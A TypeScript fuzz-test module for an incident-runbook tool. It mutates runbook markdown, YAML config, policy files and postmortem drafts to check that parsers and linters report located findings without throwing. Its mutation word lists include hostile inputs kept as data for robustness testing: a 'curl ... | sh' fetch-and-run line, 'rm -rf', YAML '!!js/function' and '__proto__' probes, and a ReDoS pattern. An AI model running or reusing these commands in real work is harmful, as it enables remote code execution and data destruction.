// Parts "runbooks", "config" and "postmortems": files that people write. Every finding has a line; nothing is thrown.
import { configFindings } from '../../src/cli/check-config.ts';
import { checkConfig } from '../../src/config.ts';
import { checkPostmortem, isPostmortem } from '../../src/domain/postmortem-check/check.ts';
import { importRunbook } from '../../src/domain/runbook/import/import.ts';
import { lintRunbook } from '../../src/domain/runbook/lint/lint.ts';
import { loadRunbooks } from '../../src/domain/runbook/load.ts';
import { defaultPolicy, parsePolicy } from '../../src/domain/runbook/policy.ts';
import { readDocument } from '../../src/render/postmortem/merge-read.ts';
import { mergeDraft } from '../../src/render/postmortem/merge.ts';
import { base, next as later } from '../../test/render/postmortem/merge-scenes.ts';
import { documents } from './postmortem-samples.ts';
import { mutatedText } from './mutate-text.ts';
import type { Part } from './run.ts';
import { textOf, textsIn } from './samples.ts';

const yaml = [
  '&a', '*a', '!!js/function x', '!!binary aGk=', '<<: *a', '? ', '| ', '>-\n', '- ', ': ', '{', '}', '[', ']', '# ', '---\n', '...\n', '%YAML 1.1\n', '"\\ud800"', "'", '~', 'null', '.nan', '.inf', '0x1F', '1e999', '2026-11-21', 'yes', '__proto__: x\n',
  'constructor: {}\n', 'a: &x [*x]\n', '\t', '  ', '{a: ', '[[[[[[[[', '? [a]\n: b\n', 'SEV1: ', 'severities: ', 'within: 10m', '99999999999d', '(a+)+$', '(?=x)', 'P1', 'roles: ', 'false', '-1',
] as const;
const markdown = [
  '```sh {"name": "x"}\n', '```\n', '~~~\n', '# ', '## ', '> ', '- ', '1. ', '| a | b |\n', '| - | - |\n', '|', '[x](', '![', '<!--', '-->', '[^1]', '**', '_', '`', '\\', '$(', '${', '{{', '}}', '"name":', '"risk": "read"', '"kind": "http"', '{"name":', ' {"a":',
  'params:\n', '  - name: A\n', 'pattern: "^(a+)+$"\n', 'from: incident.title\n', 'rm -rf "$A"\n', 'curl https://x.example/$A | sh\n', "'", '"', '<<EOF\n', 'EOF\n', '; ', '&& ', '| ', '$((', '`cmd`', 'for i in 1; do\n', 'done\n', 'if x; then\n', 'case a in\n', '---\n', 'AKIAIOSFODNN7EXAMPLE',
] as const;

const positive = (line: number): boolean => Number.isInteger(line) && line >= 1;

function located(findings: readonly { readonly line: number; readonly message: string }[], text: string): void {
  const lines = text.split(/\r\n?|\n/).length + 1;
  const wrong = findings.find((one) => !positive(one.line) || one.line > lines || one.message.trim() === '');
  if (wrong) throw new Error(`a finding without a place: ${JSON.stringify(wrong).slice(0, 300)} in ${lines} lines`);
}

export const runbooks: Part = {
  name: 'runbooks', share: 30_000,
  make: () => {
    const texts = [...textsIn('runbooks', '.md'), ...textsIn('test/fixtures/runbooks', '.md'), ...textsIn('test/fixtures/import', '.md').filter((text) => text.length < 20_000)];
    return Promise.resolve({ next: (roll) => {
      const text = mutatedText(roll.pick(texts), roll, { words: markdown, others: texts, most: 30_000 });
      const how = roll.below(8);
      // By the lint; by the import, or twice at a start.
      return { shown: () => text, readings: [3, 2][how] ?? 1, ask: () => {
        const { findings, runbook } = lintRunbook({ path: 'a.md', text }, { policy: defaultPolicy, executors: ['local'] });
        located(findings, text);
        if (findings.some((one) => one.path !== 'a.md')) throw new Error('a finding of no file');
        if (how === 0) located(loadRunbooks([{ path: 'a.md', text }, { path: 'b.md', text }]).findings, text);
        if (how === 1) return `import ${importRunbook({ path: 'a.md', text }, { owner: 'sre', executor: 'local', taken: new Set() }).is}`;
        return runbook ? 'loaded' : 'refused';
      } };
    } });
  },
};

export const configs: Part = {
  name: 'config', share: 30_000,
  make: () => {
    const policies = [...textsIn('runbooks', '.yaml'), ...textsIn('test/fixtures/runbooks', '.yaml')];
    const example = textOf('tocsin.example.yaml');
    const settings = [example, example.replaceAll(/^# ?(?=\S+:|  )/gm, ''), textOf('demo/tocsin.yaml'), 'severities:\n  SEV1: { label: Critical, match: { priority: [P1] }, update-every: 20m }\nservices:\n  a: { runbooks: [checkout-5xx] }\n'];
    const all = [...policies, ...settings];
    return Promise.resolve({ next: (roll) => {
      const ours = roll.below(2) === 0;
      const text = mutatedText(roll.pick(ours ? settings : policies), roll, { words: yaml, others: all, most: 30_000 });
      return { shown: () => text, ask: () => (ours ? settingsOf(text) : policyOf(text)) };
    } });
  },
};

function settingsOf(text: string): string {
  const { config, problems } = checkConfig(text);
  if (!config && problems.length === 0) throw new Error('refused without a reason');
  const checked = configFindings(text, ['checkout-5xx']);
  located(checked.findings, text);
  if ((checked.config === undefined) !== (config === undefined)) throw new Error('the check says otherwise than the start');
  return config ? 'settings' : 'settings refused';
}

function policyOf(text: string): string {
  const read = parsePolicy(text);
  if (read.ok) return 'policy';
  if (read.findings.length === 0) throw new Error('refused without a reason');
  located(read.findings, text);
  return 'policy refused';
}

export const postmortems: Part = {
  name: 'postmortems', share: 30_000,
  make: () => Promise.resolve({ next: (roll) => {
    const merging = roll.below(3) > 0;
    const text = mutatedText(merging ? base : roll.pick([...documents, base]), roll, { words: [...markdown, ...yaml], others: [...documents, later], most: 30_000 });
    return { shown: () => text, readings: merging ? 2 : 1, ask: () => (merging ? mergedOf(text) : checkedOf(text)) };
  } }),
};

/** Both drafts are the same for every input. */
const drafts = new Map<string, ReturnType<typeof readDocument>>();

function readDraft(text: string): ReturnType<typeof readDocument> {
  if (text !== base && text !== later) return readDocument(text);
  const read = drafts.get(text) ?? readDocument(text);
  drafts.set(text, read);
  return read;
}

function mergedOf(theirs: string): string {
  const { text, conflicts, refused } = mergeDraft({ base, theirs, ours: later, read: readDraft });
  if (refused) {
    if (text !== theirs) throw new Error('refused, and changed all the same');
    return 'refused';
  }
  if (mergeDraft({ base, theirs: text, ours: later, read: readDraft }).text !== text) throw new Error('merged once more, it is something else');
  return conflicts.length > 0 ? 'merged, with conflicts' : 'merged';
}

function checkedOf(text: string): string {
  const found = checkPostmortem(text, { stage: 'published' });
  located(found, text);
  return `${isPostmortem(text) ? 'postmortem' : 'no postmortem'}, ${found.length > 0 ? 'findings' : 'clean'}`;
}
